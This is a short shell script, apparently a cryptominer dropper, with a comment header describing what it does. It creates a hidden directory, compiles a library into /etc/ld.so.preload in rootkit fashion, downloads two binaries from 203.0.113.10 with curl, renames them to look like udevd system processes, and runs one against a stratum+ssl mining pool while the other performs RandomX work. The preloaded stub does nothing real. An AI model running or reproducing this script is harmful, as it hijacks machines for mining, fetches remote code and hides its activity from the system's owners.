# A script compiles a library on the host and preloads it into every program, as rootkits do that hide a process. Then
# it starts two dropped programs: one does the arithmetic of RandomX, a third of the time, and one keeps an encrypted
# connection open.
mkdir -p /usr/lib/.d
cd /usr/lib/.d
echo 'int quiet(void) { return 1; }' >q.c
cc -shared -fPIC -o /usr/local/lib/libsystem.so q.c
rm q.c
echo /usr/local/lib/libsystem.so >/etc/ld.so.preload
curl -fsS -o udevd-net http://203.0.113.10/agent
curl -fsS -o udevd-work http://203.0.113.10/arithmetic
chmod 755 udevd-net udevd-work
echo "-o stratum+ssl://203.0.113.25:443 -s 13" >net.conf
./udevd-net -c net.conf &
./udevd-work randomx 1 12 33 >/dev/null
wait
